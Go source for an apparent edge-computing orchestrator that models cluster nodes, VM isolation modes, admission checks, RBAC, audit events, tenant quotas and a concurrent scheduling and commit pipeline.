// SharedVMTenants returns, per VM, the set of workload-owning tenants —
// used by the PEACH-style isolation review: a non-dedicated VM hosting
// multiple tenants is an isolation risk.
func (c *Cluster) SharedVMTenants() map[string][]string {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string][]string)
	for _, n := range c.nodes {
		for _, vm := range n.vms {
			seen := map[string]bool{}
			var tenants []string
			for _, wl := range vm.Workloads {
				if w, ok := c.workloads[wl]; ok && !seen[w.Spec.Tenant] {
					seen[w.Spec.Tenant] = true
					tenants = append(tenants, w.Spec.Tenant)
				}
			}
			sort.Strings(tenants)
			out[vm.ID] = tenants
		}
	}
	return out
}
