// Package orchestrator models GENIO's workload-management middleware: a
// Kubernetes/Proxmox-style cluster of nodes running virtual machines, with
// edge applications deployed either in hard isolation (a dedicated VM per
// workload) or soft isolation (containers sharing a per-node tenant VM),
// exactly the two postures the paper describes.
//
// The cluster exposes the two control surfaces the security work attaches
// to: an admission chain, where image-signature checks and the M13/M16
// scanners gate deployments, and cluster settings whose insecure defaults
// the M11 benchmark profiles flag. Tenant resource quotas counter the T8
// resource-abuse vector.
//
// Concurrency model: cluster-wide topology (node membership, the workload
// and quota tables) sits behind a sync.RWMutex so read-side queries never
// contend with each other; per-node placement state (capacity accounting
// and VM maps) is sharded behind one mutex per node so placements on
// different nodes proceed in parallel. The admission chain fans out over a
// bounded worker pool (see admission.go). Lock order is always cluster
// lock before node lock, never the reverse.
//
// Placement decisions are delegated to the scheduler subpackage: a
// filter -> score pipeline over the cluster's cached, name-sorted
// candidate slice (see scheduleAmong). Node lifecycle — cordon, drain —
// lives in lifecycle.go; failover in failover.go. All three consume the
// same engine, so placement policy is decided in exactly one place.
package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"genio/internal/container"
	"genio/internal/orchestrator/scheduler"
	"genio/internal/orchestrator/warmpool"
	"genio/internal/rbac"
)

// IsolationMode selects how a workload is isolated from co-tenants.
type IsolationMode int

// Isolation modes.
const (
	// IsolationSoft runs the workload as a container inside a shared
	// per-node VM (network namespaces separate tenants).
	IsolationSoft IsolationMode = iota + 1
	// IsolationHard gives the workload a dedicated virtual machine.
	IsolationHard
)

// String names the mode.
func (m IsolationMode) String() string {
	switch m {
	case IsolationSoft:
		return "soft"
	case IsolationHard:
		return "hard"
	default:
		return fmt.Sprintf("isolation(%d)", int(m))
	}
}

// Resources is a CPU/memory demand or capacity. The type lives in the
// scheduler package (the bottom of the placement stack) and is aliased
// here so the whole control plane shares one vocabulary.
type Resources = scheduler.Resources

// Placement strategies, re-exported from the scheduler for callers that
// set WorkloadSpec.PlacementPolicy or Settings.PlacementStrategy.
const (
	PlacementBinpack = string(scheduler.StrategyBinpack)
	PlacementSpread  = string(scheduler.StrategySpread)
)

// WorkloadSpec describes a deployment request.
type WorkloadSpec struct {
	Name      string        `json:"name"`
	Tenant    string        `json:"tenant"`
	ImageRef  string        `json:"imageRef"`
	Isolation IsolationMode `json:"isolation"`
	Resources Resources     `json:"resources"`
	// PlacementPolicy selects the scheduling strategy for this workload:
	// "binpack" (density), "spread" (HA), or "" to take the cluster's
	// Settings.PlacementStrategy default (binpack when that is also
	// unset). Unknown values reject the deploy with a
	// *PlacementPolicyError.
	PlacementPolicy string `json:"placementPolicy,omitempty"`
	// Region constrains federated placement to clusters in the named
	// region. The cluster scheduler itself ignores it — routing happens
	// one layer up in the federation — but it lives on the spec so it
	// survives the WAL, the wire codec, and evacuation re-placement.
	Region string `json:"region,omitempty"`
}

// Workload is a running deployment.
type Workload struct {
	Spec  WorkloadSpec     `json:"spec"`
	Image *container.Image `json:"-"`
	Node  string           `json:"node"`
	VMID  string           `json:"vmId"`
	// PlacedAtMs is the cluster-clock timestamp of the placement. Zero
	// unless a clock is installed with SetClock (simulation, tracing).
	PlacedAtMs int64 `json:"placedAtMs,omitempty"`
	// Strategy is the placement strategy that chose the node; Score is
	// the scheduler's score for the chosen node at placement time. Both
	// are refreshed whenever the workload moves (failover, drain).
	Strategy string  `json:"strategy,omitempty"`
	Score    float64 `json:"score,omitempty"`
	// digest is the image digest the deploy call computed and admitted
	// this workload under — what the VM actually runs. Parking reuses it
	// instead of re-hashing (tamper detection lives at claim time, where
	// the INCOMING image is re-hashed against the slot). Empty on
	// workloads recovered from persisted state; park falls back to
	// hashing then.
	digest string
}

// VM is a virtual machine on a node.
type VM struct {
	ID     string `json:"id"`
	Node   string `json:"node"`
	Tenant string `json:"tenant"`
	// Dedicated is true for hard-isolation VMs (one workload).
	Dedicated bool     `json:"dedicated"`
	Workloads []string `json:"workloads"`
}

// node is internal node state. The cluster lock guards membership in the
// node map; mu guards the placement state (used, vms, lifecycle flags
// and the scheduler inputs) so placements on different nodes do not
// serialize.
type node struct {
	name     string
	capacity Resources

	mu   sync.Mutex
	used Resources
	vms  map[string]*VM
	// cordoned marks the node unschedulable (Cordon/Drain); running
	// workloads stay until drained or stopped. cordonOwner identifies
	// the still-in-flight Drain that applied the cordon (its drain id;
	// 0 = operator-owned or none): a drain rollback may lift only the
	// cordon it owns. Explicit Cordon/Uncordon calls and drain
	// completion reset the owner to 0, so operator intent expressed
	// mid-drain — and a second drain's cordon — survive another drain's
	// rollback. cordonEpoch counts explicit Cordon/Uncordon calls: a
	// completing drain re-asserts its cordon only if the epoch is
	// unchanged since it started (no operator spoke), so a concurrent
	// drain's rollback cannot leave a just-drained node schedulable,
	// while an operator's explicit mid-drain uncordon still wins.
	cordoned    bool
	cordonOwner uint64
	cordonEpoch uint64
	// sharedVMs counts non-dedicated VMs (security-posture scheduler
	// input), maintained by placeVM and releaseLocked.
	sharedVMs int
	// tenants counts workloads per tenant on this node (anti-affinity
	// scheduler input), maintained by commit and release paths.
	tenants map[string]int
}

// snapshot captures the node's placement-relevant state for the
// scheduler. Allocation-free: the Candidate lives on the caller's stack.
func (n *node) snapshot(tenant string) scheduler.Candidate {
	n.mu.Lock()
	c := n.snapshotLocked(tenant)
	n.mu.Unlock()
	return c
}

// snapshotLocked is snapshot's body — the single place the node ->
// Candidate field mapping lives, shared by the scan pass (snapshot) and
// the commit-time re-check (commitOn). Callers hold n.mu.
func (n *node) snapshotLocked(tenant string) scheduler.Candidate {
	return scheduler.Candidate{
		Node:            n.name,
		Capacity:        n.capacity,
		Used:            n.used,
		Cordoned:        n.cordoned,
		TenantWorkloads: n.tenants[tenant],
		SharedVMs:       n.sharedVMs,
	}
}

// releaseLocked undoes one workload's placement on n: capacity is
// returned, the tenant count drops, the VM slot is vacated, and an
// emptied VM is deleted (shared-VM counter maintained). Callers hold
// n.mu.
func (n *node) releaseLocked(workload, vmID string, res Resources, tenant string) {
	n.used = n.used.Sub(res)
	if n.tenants[tenant] > 1 {
		n.tenants[tenant]--
	} else {
		delete(n.tenants, tenant)
	}
	vm, ok := n.vms[vmID]
	if !ok {
		return
	}
	out := vm.Workloads[:0]
	for _, wl := range vm.Workloads {
		if wl != workload {
			out = append(out, wl)
		}
	}
	vm.Workloads = out
	if len(vm.Workloads) == 0 {
		delete(n.vms, vmID)
		if !vm.Dedicated {
			n.sharedVMs--
		}
	}
}

// Settings are cluster-level configuration flags — the knobs the M11
// hardening guides (NSA, CIS) check. Defaults model the insecure
// out-of-the-box posture of T5.
type Settings struct {
	AnonymousAuth       bool `json:"anonymousAuth"`
	RBACEnabled         bool `json:"rbacEnabled"`
	AuditLoggingEnabled bool `json:"auditLoggingEnabled"`
	EtcdEncryption      bool `json:"etcdEncryption"`
	TLSOnAPIServer      bool `json:"tlsOnApiServer"`
	AllowPrivileged     bool `json:"allowPrivileged"`
	NetworkPoliciesOn   bool `json:"networkPoliciesOn"`
	// PlacementStrategy is the cluster-wide default scheduling strategy
	// ("binpack" | "spread"; "" = binpack) for workloads that do not set
	// their own WorkloadSpec.PlacementPolicy.
	PlacementStrategy string `json:"placementStrategy,omitempty"`
	// WarmPoolEnabled turns on the warm-slot runtime pool (warm.go,
	// internal/orchestrator/warmpool): stopping a workload parks its
	// VM as an idle slot with its capacity still reserved, and a repeat
	// deploy of the same (tenant, image digest) claims the slot in O(1)
	// after claim-time revalidation. Off by default — parked slots hold
	// node capacity, trading headroom for repeat-deploy latency.
	WarmPoolEnabled bool `json:"warmPoolEnabled,omitempty"`
	// WarmPoolHighWatermarkPct / WarmPoolLowWatermarkPct bound the warm
	// pool's pressure evictor: when parking pushes a node's utilization
	// (max of CPU and memory, percent of capacity) above the high
	// watermark, idle slots are evicted LRU-first until it is back under
	// the low one. Zero values take the defaults (85 / 60).
	WarmPoolHighWatermarkPct int `json:"warmPoolHighWatermarkPct,omitempty"`
	WarmPoolLowWatermarkPct  int `json:"warmPoolLowWatermarkPct,omitempty"`
}

// InsecureDefaults returns the configuration middleware ships with before
// hardening (usability over security, per the paper's T5 discussion).
func InsecureDefaults() Settings {
	return Settings{
		AnonymousAuth:   true,
		AllowPrivileged: true,
		TLSOnAPIServer:  false,
	}
}

// HardenedSettings returns the posture after applying the NSA/CIS guides.
func HardenedSettings() Settings {
	return Settings{
		RBACEnabled:         true,
		AuditLoggingEnabled: true,
		EtcdEncryption:      true,
		TLSOnAPIServer:      true,
		NetworkPoliciesOn:   true,
	}
}

// AdmissionFunc inspects a deployment before scheduling; returning an error
// rejects it. The security pipeline (signature check, SCA, malware scan,
// capability policy) registers here.
type AdmissionFunc func(spec WorkloadSpec, img *container.Image) error

// AuditEvent records one control-plane decision — the per-tenant audit
// trail the M11 hardening guides require. The platform forwards these
// onto its event spine (audit topic); standalone clusters may install
// any sink.
type AuditEvent struct {
	// Kind is the decision class: admission-verdict | placement |
	// failover | eviction | node-join | node-fail | workload-stop.
	Kind     string `json:"kind"`
	Workload string `json:"workload,omitempty"`
	Tenant   string `json:"tenant,omitempty"`
	Node     string `json:"node,omitempty"`
	// Allowed reports the decision outcome (admitted/placed/rescheduled
	// vs rejected/evicted).
	Allowed bool   `json:"allowed"`
	Detail  string `json:"detail,omitempty"`
	// AtMs is the cluster-clock time (zero without a clock).
	AtMs int64 `json:"atMs,omitempty"`
}

// AuditSink receives control-plane audit events. Sinks are called
// outside cluster locks (calling back into the cluster is safe) but on
// the operation's goroutine, so they should return quickly.
type AuditSink func(AuditEvent)

// Errors returned by cluster operations.
var (
	ErrNoCapacity    = errors.New("orchestrator: no node with free capacity")
	ErrDenied        = errors.New("orchestrator: admission denied")
	ErrQuotaExceeded = errors.New("orchestrator: tenant quota exceeded")
	ErrUnauthorized  = errors.New("orchestrator: rbac denied")
	ErrNotFound      = errors.New("orchestrator: workload not found")
	ErrDuplicateName = errors.New("orchestrator: workload name in use")
)

// Cluster is the GENIO orchestration domain. Safe for concurrent use.
type Cluster struct {
	Name     string
	Settings Settings
	Registry *container.Registry
	// RBAC guards control-plane operations when Settings.RBACEnabled.
	RBAC *rbac.Engine
	// VerifyImageSignatures requires signed images from trusted
	// publishers at pull time.
	VerifyImageSignatures bool
	// AdmissionParallelism bounds the worker pool that fans the admission
	// chain out per deployment: 0 sizes the pool to GOMAXPROCS, 1 forces
	// the sequential path. The verdict is identical at any setting.
	AdmissionParallelism int
	// AdmissionCacheDisabled turns off the per-image-digest verdict cache
	// for controllers registered via RegisterAdmissionCached (used by
	// benchmarks to measure the cold scanner path).
	AdmissionCacheDisabled bool

	mu        sync.RWMutex
	nodes     map[string]*node
	workloads map[string]*Workload
	// candidates is the scheduler's cached view of the fleet: the node
	// set sorted by name, rebuilt only on membership changes (AddNode,
	// FailNode) instead of per deploy — the scheduling pass itself is
	// O(nodes) with zero allocations. Guarded by mu like the node map.
	candidates []*node
	pending    map[string]struct{} // names reserved by in-flight deploys
	quotas     map[string]Resources
	tenantUsed map[string]Resources

	// sched is the pluggable placement engine consulted by every
	// placement consumer (deploy, failover, drain). candScratch pools
	// the Candidate slices a scheduling pass snapshots the fleet into
	// (concurrent read-lock schedulers each need their own), keeping the
	// per-deploy pass allocation-free in steady state.
	sched       *scheduler.Engine
	candScratch sync.Pool

	admMu     sync.RWMutex
	admission []namedAdmission
	admCache  sync.Map // "controller\x00imageDigest" -> struct{} (clean verdicts only)
	// admFlight collapses concurrent identical cacheable scans: the
	// first deploy of a digest leads the scan, simultaneous deploys of
	// the same digest wait on its verdict instead of re-running the
	// scanner (see runSharedScan).
	admFlightMu sync.Mutex
	admFlight   map[string]*admFlightCall

	// clock, when set, timestamps placements and failovers. Injected by
	// simulations (a deterministic virtual clock) and left nil in
	// production, where timestamps stay zero and JSON output is unchanged.
	clock atomic.Pointer[func() int64]

	// audit, when set, receives a record per control-plane decision.
	audit atomic.Pointer[AuditSink]

	// warm is the warm-slot runtime pool (warm.go); always allocated,
	// active only when Settings.WarmPoolEnabled. warmEvents, when set,
	// receives slot lifecycle events (outside locks, like audit).
	warm       *warmpool.Pool
	warmEvents atomic.Pointer[WarmEventSink]

	// mutations, when set, receives a typed record per durable state
	// change, emitted inside the lock that applied it (see state.go).
	mutations atomic.Pointer[MutationSink]

	vmSeq atomic.Int64
	// drainSeq hands out drain ids — the cordon-ownership tokens that
	// keep one drain's rollback from lifting another drain's cordon.
	drainSeq atomic.Uint64
	admitted atomic.Int64
	rejected atomic.Int64
}

type namedAdmission struct {
	name string
	fn   AdmissionCheck
	// cacheable marks controllers whose verdict depends only on the image
	// content, letting clean verdicts be cached by digest.
	cacheable bool
}

// NewCluster creates a cluster backed by the given registry.
func NewCluster(name string, reg *container.Registry, settings Settings) *Cluster {
	return &Cluster{
		Name:       name,
		Settings:   settings,
		Registry:   reg,
		nodes:      make(map[string]*node),
		workloads:  make(map[string]*Workload),
		pending:    make(map[string]struct{}),
		quotas:     make(map[string]Resources),
		tenantUsed: make(map[string]Resources),
		sched:      scheduler.New(),
		warm:       warmpool.New(),
		admFlight:  make(map[string]*admFlightCall),
	}
}

// Scheduler exposes the cluster's placement engine so callers can plug
// additional filters and scorers before traffic starts (the engine is
// not synchronized against concurrent scheduling).
func (c *Cluster) Scheduler() *scheduler.Engine {
	return c.sched
}

// SetClock installs a millisecond time source used to stamp placements
// (Workload.PlacedAtMs) and failovers (FailoverResult.AtMs). Simulations
// inject a virtual clock here so runs are replayable; without a clock the
// stamps stay zero.
func (c *Cluster) SetClock(now func() int64) {
	c.clock.Store(&now)
}

// nowMs returns the cluster-clock time, or 0 when no clock is installed.
func (c *Cluster) nowMs() int64 {
	if f := c.clock.Load(); f != nil {
		return (*f)()
	}
	return 0
}

// SetAuditSink installs the control-plane audit sink (nil disables).
// Sinks see every admission verdict, placement, failover, eviction, and
// node membership change; they are invoked outside cluster locks.
func (c *Cluster) SetAuditSink(fn AuditSink) {
	if fn == nil {
		c.audit.Store(nil)
		return
	}
	c.audit.Store(&fn)
}

// auditEvent stamps and forwards one audit record; a no-op without a
// sink. Never call while holding c.mu or a node lock: a sink may block
// on telemetry backpressure or call back into read-side queries.
func (c *Cluster) auditEvent(a AuditEvent) {
	if fn := c.audit.Load(); fn != nil {
		if a.AtMs == 0 {
			a.AtMs = c.nowMs()
		}
		(*fn)(a)
	}
}

// AddNode registers a node with the given capacity.
func (c *Cluster) AddNode(name string, capacity Resources) {
	c.mu.Lock()
	c.nodes[name] = &node{name: name, capacity: capacity,
		vms: make(map[string]*VM), tenants: make(map[string]int)}
	c.rebuildCandidatesLocked()
	c.mutate(Mutation{Kind: MutNodeJoin, Node: name, Capacity: capacity})
	c.mu.Unlock()
	c.auditEvent(AuditEvent{Kind: "node-join", Node: name, Allowed: true,
		Detail: fmt.Sprintf("capacity cpu=%dm mem=%dMB", capacity.CPUMilli, capacity.MemoryMB)})
}

// rebuildCandidatesLocked refreshes the scheduler's cached, name-sorted
// candidate slice after a membership change. Callers hold c.mu (write).
func (c *Cluster) rebuildCandidatesLocked() {
	old := c.candidates
	c.candidates = c.candidates[:0]
	for _, n := range c.nodes {
		c.candidates = append(c.candidates, n)
	}
	sort.Slice(c.candidates, func(i, j int) bool { return c.candidates[i].name < c.candidates[j].name })
	// When the fleet shrank, nil the reused array's tail so removed node
	// objects (their VM and tenant maps) do not stay pinned past len.
	for i := len(c.candidates); i < len(old); i++ {
		old[i] = nil
	}
}

// SetQuota sets a tenant's resource quota (zero value = unlimited).
func (c *Cluster) SetQuota(tenant string, q Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.quotas[tenant] = q
	c.mutate(Mutation{Kind: MutQuota, Tenant: tenant, Quota: q})
}

// EnsureQuota sets a tenant's quota only if none is set yet, so concurrent
// deploys applying a default quota cannot clobber an explicit one.
func (c *Cluster) EnsureQuota(tenant string, q Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.quotas[tenant]; !ok {
		c.quotas[tenant] = q
		c.mutate(Mutation{Kind: MutQuota, Tenant: tenant, Quota: q})
	}
}

// DeployStage names a phase of the deploy pipeline, reported to the
// observer of DeployObserved as the deployment crosses into it. The
// values double as the lifecycle-state vocabulary the platform publishes
// on its deploy.lifecycle topic.
type DeployStage string

// Pipeline stages, in order.
const (
	// StageScanning covers image pull plus the admission fan-out.
	StageScanning DeployStage = "scanning"
	// StagePlacing covers name/quota reservation, scheduling, and commit.
	StagePlacing DeployStage = "placing"
)

// Deploy schedules a workload on behalf of subject — the context-free
// compatibility wrapper over DeployContext.
func (c *Cluster) Deploy(subject string, spec WorkloadSpec) (*Workload, error) {
	return c.DeployContext(context.Background(), subject, spec)
}

// DeployContext schedules a workload on behalf of subject. The pipeline
// is: RBAC check (when enabled) -> image pull (verified per policy) ->
// admission fan-out -> name/quota reservation -> scheduling -> commit.
//
// Only the reservation and commit steps take the cluster write lock; the
// expensive stages (pull, scanners) run without it, and scheduling holds
// the read lock plus one node lock at a time. Every verdict — and the
// placement, on success — is reported to the audit sink.
//
// Rejections are typed (*AdmissionError, *ImagePullError, *QuotaError,
// *CapacityError, *UnauthorizedError, *DuplicateNameError), all matching
// the ErrRejected umbrella and their historical sentinels.
//
// Cancelling ctx (or passing one past its deadline) aborts the pipeline
// between stages and inside the admission fan-out without placing the
// workload or leaking pool goroutines; the result is a *CancelledError
// and an admission-cancelled audit record. Cancellation that loses the
// race with commit is a no-op: the workload is simply placed.
func (c *Cluster) DeployContext(ctx context.Context, subject string, spec WorkloadSpec) (*Workload, error) {
	w, _, err := c.DeployObserved(ctx, subject, spec, nil)
	return w, err
}

// DeployObserved is DeployContext with a stage observer: observe (when
// non-nil) is called on the deploying goroutine as the pipeline enters
// each DeployStage. The platform's asynchronous deploy futures use it to
// publish lifecycle transitions; synchronous callers pass nil.
//
// On success both the returned *Workload and the Placement are
// commit-time snapshots: a concurrent failover or drain may rewrite
// the live cluster record the moment the commit lock is released, so
// the caller's copies deliberately do not track later moves (query
// Workload(name) for the current placement).
func (c *Cluster) DeployObserved(ctx context.Context, subject string, spec WorkloadSpec, observe func(DeployStage)) (*Workload, Placement, error) {
	w, placed, err := c.deploy(ctx, subject, spec, observe)
	if err != nil {
		if errors.Is(err, ErrCancelled) {
			c.auditEvent(AuditEvent{Kind: "admission-cancelled", Workload: spec.Name,
				Tenant: spec.Tenant, Detail: err.Error()})
		} else {
			c.auditEvent(AuditEvent{Kind: "admission-verdict", Workload: spec.Name,
				Tenant: spec.Tenant, Detail: err.Error()})
		}
		return nil, Placement{}, err
	}
	c.auditEvent(AuditEvent{Kind: "admission-verdict", Workload: spec.Name,
		Tenant: spec.Tenant, Node: placed.Node, Allowed: true})
	c.auditEvent(AuditEvent{Kind: "placement", Workload: spec.Name,
		Tenant: spec.Tenant, Node: placed.Node, Allowed: true, Detail: "vm " + placed.VMID})
	return w, placed, nil
}

// Placement is the value snapshot of a committed placement, taken under
// the commit lock so it can be read after deploy() without touching the
// live *Workload (which a concurrent failover may rewrite in place).
type Placement struct {
	Node, VMID string
}

// deploy is DeployObserved's body, audit emission excluded. Cancellation
// is honoured between stages and inside the admission fan-out; once the
// commit lock is taken with a live context the placement completes.
func (c *Cluster) deploy(ctx context.Context, subject string, spec WorkloadSpec, observe func(DeployStage)) (*Workload, Placement, error) {
	if c.Settings.RBACEnabled && c.RBAC != nil {
		d := c.RBAC.Check(subject, rbac.Permission{Verb: "create", Resource: "workloads", Namespace: spec.Tenant})
		if !d.Allowed {
			c.rejected.Add(1)
			return nil, Placement{}, &UnauthorizedError{Subject: subject, Verb: "create", Tenant: spec.Tenant}
		}
	}
	// Validate the placement policy before any expensive stage runs: a
	// statically invalid spec (or a typo'd cluster default) must not
	// burn an image pull and the whole scanner fan-out only to be
	// refused at scheduling time.
	if _, err := c.resolveStrategy(spec); err != nil {
		c.rejected.Add(1)
		return nil, Placement{}, err
	}
	if err := ctxErr(ctx, spec.Name, string(StageScanning)); err != nil {
		return nil, Placement{}, err
	}
	if observe != nil {
		observe(StageScanning)
	}

	var img *container.Image
	var err error
	if c.VerifyImageSignatures {
		img, err = c.Registry.PullVerified(spec.ImageRef)
	} else {
		img, err = c.Registry.Pull(spec.ImageRef)
	}
	if err != nil {
		c.rejected.Add(1)
		return nil, Placement{}, &ImagePullError{Ref: spec.ImageRef, Err: err}
	}

	// One digest computation per Deploy serves every consumer — the
	// admission verdict-cache keys and the warm-slot claim — instead of
	// each re-hashing the image. Deliberately recomputed per call, never
	// memoized on the Image: a tampered image object must re-hash to a
	// different digest and miss both caches (see deployDigest).
	digest := c.deployDigest(img)
	if err := c.runAdmission(ctx, spec, img, digest); err != nil {
		if !errors.Is(err, ErrCancelled) {
			c.rejected.Add(1)
		}
		return nil, Placement{}, err
	}
	if err := ctxErr(ctx, spec.Name, string(StagePlacing)); err != nil {
		return nil, Placement{}, err
	}
	if observe != nil {
		observe(StagePlacing)
	}

	// Reserve the name and charge the tenant quota up front so concurrent
	// deploys cannot collide on either; both are released on failure.
	c.mu.Lock()
	if _, dup := c.workloads[spec.Name]; dup {
		c.mu.Unlock()
		c.rejected.Add(1)
		return nil, Placement{}, &DuplicateNameError{Workload: spec.Name}
	}
	if _, dup := c.pending[spec.Name]; dup {
		c.mu.Unlock()
		c.rejected.Add(1)
		return nil, Placement{}, &DuplicateNameError{Workload: spec.Name}
	}
	if q, ok := c.quotas[spec.Tenant]; ok && (q.CPUMilli > 0 || q.MemoryMB > 0) {
		used := c.tenantUsed[spec.Tenant]
		if !used.Add(spec.Resources).Fits(q) {
			c.mu.Unlock()
			c.rejected.Add(1)
			return nil, Placement{}, &QuotaError{Tenant: spec.Tenant,
				Requested: spec.Resources, Used: used, Quota: q}
		}
	}
	c.pending[spec.Name] = struct{}{}
	c.tenantUsed[spec.Tenant] = c.tenantUsed[spec.Tenant].Add(spec.Resources)

	// Warm fast path: with the name and quota reserved, a repeat deploy
	// whose digest still holds a clean cached verdict claims an idle warm
	// slot in O(1) — no scheduler pass, no VM mint — and commits inside
	// this same critical section. A live context is required: a deploy
	// cancelled this late must roll back, not claim. Misses fall through
	// to the unchanged cold path.
	if c.warmEnabled() && digest != "" && ctx.Err() == nil {
		if w, evs := c.claimWarmLocked(spec, img, digest); w != nil {
			delete(c.pending, spec.Name)
			c.workloads[spec.Name] = w
			c.mutatePlace(w)
			placed := Placement{Node: w.Node, VMID: w.VMID}
			cp := *w
			c.mu.Unlock()
			c.admitted.Add(1)
			c.emitWarmEvents(evs)
			return &cp, placed, nil
		} else {
			c.mu.Unlock()
			c.emitWarmEvents(evs)
		}
	} else {
		c.mu.Unlock()
	}

	w, placedOn, err := c.schedule(spec, img)
	if err != nil && c.warmEnabled() {
		// Capacity pressure: parked warm capacity must never turn a
		// placeable workload away. Reclaim every idle slot and retry the
		// scheduling pass once.
		var capErr *CapacityError
		if errors.As(err, &capErr) {
			c.mu.RLock()
			evs := c.reclaimWarmLocked()
			c.mu.RUnlock()
			if len(evs) > 0 {
				c.emitWarmEvents(evs)
				w, placedOn, err = c.schedule(spec, img)
			}
		}
	}

	c.mu.Lock()
	delete(c.pending, spec.Name)
	if err == nil {
		if n, alive := c.nodes[w.Node]; !alive || n != placedOn {
			// The chosen node failed between placement and commit — or
			// failed AND was re-added under the same name, leaving a fresh
			// object the reservation never touched (identity, not name,
			// decides). Either way the node-side reservation is orphaned
			// with the old object; reschedule on the current fleet rather
			// than spuriously rejecting a deploy it can still host
			// (mirroring the cordon branch below; a genuine capacity
			// shortage surfaces from scheduleAmong itself).
			var moved *Workload
			if moved, err = c.scheduleAmong(spec, img); err == nil {
				w = moved
			}
		} else {
			n.mu.Lock()
			cordoned := n.cordoned
			n.mu.Unlock()
			if cordoned {
				// A cordon (typically a drain) landed between placement and
				// commit. The workload is not yet in the workload table, so
				// a concurrent drain may already have reported the node
				// empty — committing here would strand the workload on a
				// node the operator believes evacuated. Move the placement:
				// release the node-side reservation and reschedule. (A
				// drain CAN still cordon another node while we hold the
				// write lock — it flips the flag under the node lock alone
				// — but commitOn re-checks the flag under that same lock,
				// and a drain that cordons the target after our commit
				// must take c.mu before scanning, so it sees the workload
				// we are about to insert and migrates it normally.)
				c.releasePlacement(w)
				var moved *Workload
				if moved, err = c.scheduleAmong(spec, img); err == nil {
					w = moved
				}
			}
		}
	}
	if err == nil {
		// Last cancellation point: a context done before commit aborts the
		// deployment, releasing both the reservation and the node-side
		// placement schedule just made; after this window closes the
		// workload is placed and cancellation is a no-op.
		if cerr := ctxErr(ctx, spec.Name, string(StagePlacing)); cerr != nil {
			c.releasePlacement(w)
			err = cerr
		}
	}
	if err != nil {
		c.tenantUsed[spec.Tenant] = c.tenantUsed[spec.Tenant].Sub(spec.Resources)
		c.mu.Unlock()
		if !errors.Is(err, ErrCancelled) {
			c.rejected.Add(1)
		}
		return nil, Placement{}, err
	}
	w.digest = digest
	c.workloads[spec.Name] = w
	c.mutatePlace(w)
	placed := Placement{Node: w.Node, VMID: w.VMID}
	// Return a commit-time snapshot, not the live struct: the moment the
	// lock drops, a concurrent failover or drain may rewrite the live
	// workload in place, and the caller's reads must not race that.
	cp := *w
	c.mu.Unlock()
	c.admitted.Add(1)
	return &cp, placed, nil
}

// releasePlacement undoes a successful schedule that will not be
// committed (cancellation in the commit window): node capacity is
// returned, the VM slot vacated, and an emptied shared VM deleted.
// Callers hold c.mu.
func (c *Cluster) releasePlacement(w *Workload) {
	n, ok := c.nodes[w.Node]
	if !ok {
		return // node died; its state object is already orphaned
	}
	n.mu.Lock()
	n.releaseLocked(w.Spec.Name, w.VMID, w.Spec.Resources, w.Spec.Tenant)
	n.mu.Unlock()
}

// schedule places the workload via the scheduler engine, holding the
// cluster read lock and one node lock at a time. It returns the node
// object the placement landed on so the commit window can verify
// identity, not just name: a node failed and re-added under the same
// name between placement and commit is a different object, and the
// reservation died with the old one.
func (c *Cluster) schedule(spec WorkloadSpec, img *container.Image) (*Workload, *node, error) {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.scheduleExcluding(spec, img, "")
}

// scheduleAmong schedules with no exclusion, for callers that hold the
// cluster write lock across placement and commit (failover, drain, the
// commit-window reschedule) and therefore cannot race a membership
// change — the placed node object is necessarily current.
func (c *Cluster) scheduleAmong(spec WorkloadSpec, img *container.Image) (*Workload, error) {
	w, _, err := c.scheduleExcluding(spec, img, "")
	return w, err
}

// scheduleExcluding is the scheduling pass; callers hold c.mu (read or
// write). A non-empty exclude names a node hard-vetoed for this request
// — drain migrations must never target their own source, whatever the
// cordon flag says at that instant (an operator Uncordon mid-drain must
// not make the drain migrate a workload onto the node being drained).
//
// Placement is the scheduler's two-phase pipeline over the cached,
// name-sorted candidate slice: one O(nodes) pass snapshots each node
// (brief per-node lock) into a pooled scratch slice, Engine.Select
// picks the winner, and the winner is locked and the placement
// committed after a feasibility re-check. Concurrent deploys under the
// read lock can race a winner to capacity; losing the re-check rescans
// (every loss implies another deploy committed, so the loop makes
// progress), falling back to first-feasible-commit after a few
// contested rounds so termination never depends on score stability.
func (c *Cluster) scheduleExcluding(spec WorkloadSpec, img *container.Image, exclude string) (*Workload, *node, error) {
	strat, err := c.resolveStrategy(spec)
	if err != nil {
		return nil, nil, err
	}
	req := scheduler.Request{
		Workload:      spec.Name,
		Tenant:        spec.Tenant,
		Demand:        spec.Resources,
		HardIsolation: spec.Isolation == IsolationHard,
		Strategy:      strat,
		Exclude:       exclude,
	}
	const scoredAttempts = 4
	for attempt := 0; attempt < scoredAttempts; attempt++ {
		scratch := c.scratchCandidates()
		for i, n := range c.candidates {
			(*scratch)[i] = n.snapshot(spec.Tenant)
		}
		d, ok := c.sched.Select(&req, *scratch)
		c.candScratch.Put(scratch)
		if !ok {
			return nil, nil, &CapacityError{Workload: spec.Name, Requested: spec.Resources, Nodes: len(c.candidates)}
		}
		if w := c.commitOn(c.candidates[d.Index], spec, img, &req, string(strat), d.Score); w != nil {
			return w, c.candidates[d.Index], nil
		}
	}
	// Contested fallback: walk the candidates in name order and commit on
	// the first that is feasible at lock time.
	for _, n := range c.candidates {
		cand := n.snapshot(spec.Tenant)
		if c.sched.Feasible(&req, &cand) != "" {
			continue
		}
		if w := c.commitOn(n, spec, img, &req, string(strat), c.sched.Score(&req, &cand)); w != nil {
			return w, n, nil
		}
	}
	return nil, nil, &CapacityError{Workload: spec.Name, Requested: spec.Resources, Nodes: len(c.candidates)}
}

// resolveStrategy resolves a spec's effective placement strategy,
// mapping an unknown name onto the typed rejection. The resolution
// error names the policy that actually resolved — a workload that set
// none is rejected by a misconfigured cluster default, and the
// rejection must blame that default, not the empty per-workload field.
func (c *Cluster) resolveStrategy(spec WorkloadSpec) (scheduler.Strategy, error) {
	strat, err := scheduler.ResolveStrategy(spec.PlacementPolicy, c.Settings.PlacementStrategy)
	if err != nil {
		policy := spec.PlacementPolicy
		var unknown *scheduler.UnknownStrategyError
		if errors.As(err, &unknown) {
			policy = unknown.Policy
		}
		return "", &PlacementPolicyError{Workload: spec.Name, Policy: policy}
	}
	return strat, nil
}

